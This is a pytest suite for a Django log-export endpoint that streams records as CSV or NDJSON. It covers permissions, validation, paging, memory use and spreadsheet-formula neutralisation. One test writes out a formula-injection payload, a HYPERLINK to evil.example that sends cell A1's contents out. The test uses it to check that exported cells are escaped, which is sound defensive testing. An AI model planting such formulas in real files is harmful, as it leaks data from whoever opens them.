"""The export: everything of a search, newest first, streamed; CSV that no spreadsheet runs."""

from __future__ import annotations

import csv
import gc
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth.models import Permission, User
from django.http import QueryDict
from django.test import AsyncClient, Client
from django.urls import reverse

from accounts import keys
from accounts.models import Scope
from core import clock
from logs import export
from logs.records import Level, LogRecord
from logs.search import Search, parse_search
from logs.store import log_stores
from logs.store.base import Page
from logs.store.blocks import BlockStore
from tests.logs.corpus import corpus, entries, stored

pytestmark = pytest.mark.django_db(transaction=True, databases=["default", "logs"])

ADDRESSES = ["/logs/export", "/api/logs/export"]
FORMATS = sorted(export.FORMATS)


@pytest.fixture
def alice() -> User:
    user = User.objects.create_user("alice")
    user.user_permissions.add(Permission.objects.get(codename="read_records"))
    return user


@pytest.fixture
def reader(alice: User) -> AsyncClient:
    client = AsyncClient()
    client.force_login(alice)
    return client


@pytest.fixture
def records() -> list[LogRecord]:
    """Stored records, newest first, of the last minutes."""
    batch = entries(corpus(300, start=clock.now() - 5 * clock.MINUTE))
    log_stores["default"].append(batch)
    return stored(batch)


def record(**fields: Any) -> LogRecord:
    values: dict[str, Any] = {"timestamp": clock.now(), "level": Level.INFO, "service": "api", "message": "the line"}
    return LogRecord(**values | fields)


def exported(name: str, *records: LogRecord) -> str:
    return export.FORMATS[name].encode(records).decode()


def cells(*records: LogRecord) -> list[str]:
    [found] = csv.reader(io.StringIO(exported("csv", *records), newline=""))
    return found


async def whole(client: AsyncClient, address: str = "/api/logs/export", **params: str) -> bytes:
    answer: Any = await client.get(address, params)
    assert answer.status_code == 200, answer.content
    return b"".join([part async for part in answer.streaming_content])


async def rows(client: AsyncClient, **params: str) -> list[list[str]]:
    text = (await whole(client, format="csv", **params)).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


async def lines(client: AsyncClient, **params: str) -> list[dict[str, Any]]:
    text = (await whole(client, format="ndjson", **params)).decode()
    assert text == "" or text.endswith("\n")
    return [json.loads(line) for line in text.split("\n")[:-1]]


# --- The five questions --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("name", FORMATS)
async def test_it_works_and_twice_it_says_the_same(
    reader: AsyncClient, records: list[LogRecord], address: str, name: str
) -> None:
    first = await whole(reader, address, format=name)
    assert first
    assert await whole(reader, address, format=name) == first


@pytest.mark.parametrize("address", ADDRESSES)
def test_only_get_is_answered(alice: User, address: str) -> None:
    client = Client()
    client.force_login(alice)
    for method in (client.post, client.put, client.delete):
        assert method(address).status_code == 405
    head = client.head(address)
    assert head.status_code == 200
    assert not head.content


@pytest.mark.parametrize("address", ADDRESSES)
def test_who_may_not_read_is_refused(client: Client, address: str) -> None:
    assert client.get(address).status_code == 401
    client.force_login(User.objects.create_user("bob"))
    assert client.get(address).status_code == 403
    _, plain = keys.create("sender", [Scope.INGEST])
    assert client.get(address, headers={"x-api-key": plain}).status_code == 403


@pytest.mark.parametrize("address", ADDRESSES)
async def test_a_key_that_reads_is_enough(async_client: AsyncClient, records: list[LogRecord], address: str) -> None:
    _, plain = await sync_to_async(keys.create)("reader", [Scope.READ])
    answer: Any = await async_client.get(address, headers={"authorization": f"Bearer {plain}"})
    assert answer.status_code == 200
    assert [part async for part in answer.streaming_content]


@pytest.mark.parametrize(
    ("params", "parameter", "error"),
    [
        ({"format": "xls"}, "format", "expected one of ndjson, csv, got 'xls'"),
        ({"from": "yesterday"}, "from", "expected ISO 8601"),
        ({"from": "-5m", "to": "-10m"}, "from", "must be before to"),
        ({"q": "level:loud"}, "q", "position 7"),
        ({"level": "loud"}, "level", "expected one of trace"),
    ],
)
@pytest.mark.parametrize("address", ADDRESSES)
def test_a_bad_parameter_is_a_400_that_says_where_and_why(
    alice: User, address: str, params: dict[str, str], parameter: str, error: str
) -> None:
    client = Client()
    client.force_login(alice)
    answer = client.get(address, params)
    assert answer.status_code == 400
    assert answer.json()["parameter"] == parameter
    assert error in answer.json()["error"]


# --- What is in it -------------------------------------------------------------------------------------------------


async def test_ndjson_is_the_record_as_the_api_shows_it(reader: AsyncClient, records: list[LogRecord]) -> None:
    found = await lines(reader)
    assert [line["id"] for line in found] == [record.id for record in records]
    answer = await reader.get("/api/logs", {"limit": "300"})
    assert found == answer.json()["records"]


async def test_csv_has_a_header_and_every_text_as_it_is(reader: AsyncClient, records: list[LogRecord]) -> None:
    header, *found = await rows(reader)
    assert header == [
        "timestamp", "level", "service", "logger", "title", "message", "request_id", "trace_id", "span_id", "metadata",
    ]  # fmt: skip
    assert len(found) == len(records)
    for row, record in zip(found, records, strict=True):
        assert row[:3] == [clock.iso(record.timestamp), record.level.label, record.service]
        assert row[5].removeprefix("'") == record.message
        assert row[9] == record.metadata.decode()


async def test_parameters_narrow_it(reader: AsyncClient, records: list[LogRecord]) -> None:
    found = await lines(reader, q="timeout", level="error,fatal", service="api,worker")
    wanted = [
        record
        for record in records
        if "timeout" in record.message and record.level >= Level.ERROR and record.service in ("api", "worker")
    ]
    assert [line["id"] for line in found] == [record.id for record in wanted]
    assert wanted


async def test_nothing_found_is_an_empty_file(reader: AsyncClient) -> None:
    assert await lines(reader) == []
    assert len(await rows(reader)) == 1


async def test_the_file_has_the_range_in_its_name(reader: AsyncClient) -> None:
    answer = await reader.get("/logs/export", {"format": "csv", "from": "2026-11-20T10:00Z", "to": "2026-11-20T11:30Z"})
    assert answer["Content-Disposition"] == ('attachment; filename="pharos-logs_20261120T100000Z_20261120T113000Z.csv"')
    assert answer["Content-Type"].startswith("text/csv")
    answer = await reader.get("/logs/export")
    assert 'filename="pharos-logs_begin_20' in answer["Content-Disposition"]
    assert answer["Content-Disposition"].endswith('Z.ndjson"')


async def test_lines_that_come_meanwhile_dont_belong_to_it(
    reader: AsyncClient, records: list[LogRecord], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PAGE", 50)
    answer: Any = await reader.get("/api/logs/export")
    parts = aiter(answer.streaming_content)
    found = [await anext(parts)]
    late = entries([LogRecord(clock.now(), Level.INFO, "api", "later")], first=900)
    await sync_to_async(log_stores["default"].append)(late)
    found += [part async for part in parts]
    assert b"".join(found).count(b"\n") == len(records)


@pytest.mark.parametrize("start", [*"=+-@\t\r\n＝＋－＠"])
@pytest.mark.parametrize("field", ["service", "logger", "title", "message", "request_id", "trace_id", "span_id"])
def test_no_cell_is_a_formula(start: str, field: str) -> None:
    evil = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    row = cells(record(**{field: evil}))
    assert f"'{evil}" in row
    assert not [cell for cell in row if cell.startswith(start)]
    assert json.loads(exported("ndjson", record(**{field: evil})))[field] == evil  # as it was sent


def test_metadata_that_is_no_json_is_no_formula_either() -> None:
    assert cells(record(metadata=b"=1+1"))[-1] == "'=1+1"


def test_quotes_commas_line_breaks_and_control_characters_stay_in_their_cell() -> None:
    odd = record(message='a,"b"\r\nc;d\x00\x1b[31m\u202e', metadata=b'{"a":"x,\\"y\\"\\n"}')
    assert '"a,""b""\r\nc;d' in exported("csv", odd)
    assert cells(odd)[5] == odd.message
    assert json.loads(cells(odd)[9]) == {"a": 'x,"y"\n'}


def test_metadata_with_line_breaks_stays_on_one_line() -> None:
    text = exported("ndjson", record(metadata=b'{\n "a": 1,\r\n "b": "\\n"}'))
    assert text.count("\n") == 1
    assert json.loads(text)["metadata"] == {"a": 1, "b": "\n"}


# --- Of any size -----------------------------------------------------------------------------------------------------


class EndlessStore:
    """A store that never ends, and knows what of it was asked for and what of it is still in memory."""

    def __init__(self) -> None:
        self.pages = 0
        self.alive: list[int] = []

    def search(self, node: object, *, limit: int, after: Any, **_: Any) -> Page:
        gc.collect()
        self.pages += 1
        newest = after[0] if after else 10**15
        found: list[LogRecord] = [
            Counted(newest - n, Level.INFO, "api", "x" * 300, sequence=n) for n in range(1, limit + 1)
        ]
        self.alive.append(Counted.alive)
        return Page(found, found[-1].position, complete=True, searched_to=0)


class Counted(LogRecord, frozen=True, gc=False):
    alive = 0

    def __post_init__(self) -> None:
        Counted.alive += 1

    def __del__(self) -> None:
        Counted.alive -= 1


@pytest.fixture
def endless(monkeypatch: pytest.MonkeyPatch) -> EndlessStore:
    store = EndlessStore()
    monkeypatch.setattr(export, "log_stores", {"default": store})
    return store


@pytest.mark.parametrize("name", FORMATS)
async def test_never_more_than_a_page_is_in_memory(endless: EndlessStore, name: str) -> None:
    parts = export.parts(everything(), 10**15, export.FORMATS[name])
    sizes = [len(await anext(parts)) for _ in range(30)]
    await parts.aclose()  # type: ignore[attr-defined]
    assert max(endless.alive) <= 2 * export.PAGE
    assert max(sizes) < 1 << 20
    assert Counted.alive <= export.PAGE


async def test_pages_are_read_as_they_are_taken_and_not_after_the_client_left(endless: EndlessStore) -> None:
    parts = export.parts(everything(), 10**15, export.FORMATS["ndjson"])
    assert endless.pages == 0
    for taken in (1, 2, 3):
        await anext(parts)
        assert endless.pages == taken
    await parts.aclose()  # type: ignore[attr-defined]
    assert endless.pages == 3


def everything() -> Search:
    return parse_search(QueryDict(), now=clock.now(), period="")


@pytest.mark.parametrize("size", [1, 7, 299, 300, 301])
async def test_no_line_is_lost_or_doubled_between_pages(
    reader: AsyncClient, records: list[LogRecord], monkeypatch: pytest.MonkeyPatch, size: int
) -> None:
    monkeypatch.setattr(export, "PAGE", size)
    assert [line["id"] for line in await lines(reader)] == [record.id for record in records]


async def test_a_search_that_meets_its_deadline_goes_on(
    reader: AsyncClient, records: list[LogRecord], monkeypatch: pytest.MonkeyPatch
) -> None:
    search, late = BlockStore.search, iter([True, False, True, False])

    def slow(self: BlockStore, node: Any, **options: Any) -> Page:
        if next(late, False):
            return Page([], options["after"] or (options["end"], 0), complete=False, searched_to=options["end"])
        return search(self, node, **options)

    monkeypatch.setattr(BlockStore, "search", slow)
    monkeypatch.setattr(export, "PAGE", 100)
    assert len(await lines(reader)) == len(records)


async def test_a_failure_in_the_middle_is_no_quiet_end(
    reader: AsyncClient, records: list[LogRecord], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PAGE", 100)
    search = BlockStore.search

    def failing(self: BlockStore, node: Any, **options: Any) -> Page:
        if options["after"]:
            raise OSError("the disk went away")
        return search(self, node, **options)

    monkeypatch.setattr(BlockStore, "search", failing)
    answer: Any = await reader.get("/api/logs/export")
    parts: AsyncIterator[bytes] = aiter(answer.streaming_content)
    await anext(parts)
    with pytest.raises(OSError, match="the disk"):
        await anext(parts)


# --- On the page -----------------------------------------------------------------------------------------------------


def test_the_page_links_to_the_export_of_what_it_shows(alice: User) -> None:
    client = Client()
    client.force_login(alice)
    page = client.get("/logs/", {"q": "a b", "level": "error"}).content.decode()
    for name in FORMATS:
        assert f'href="{reverse("logs:export")}?format={name}&amp;q=a+b&amp;level=error&amp;from=-15m"' in page
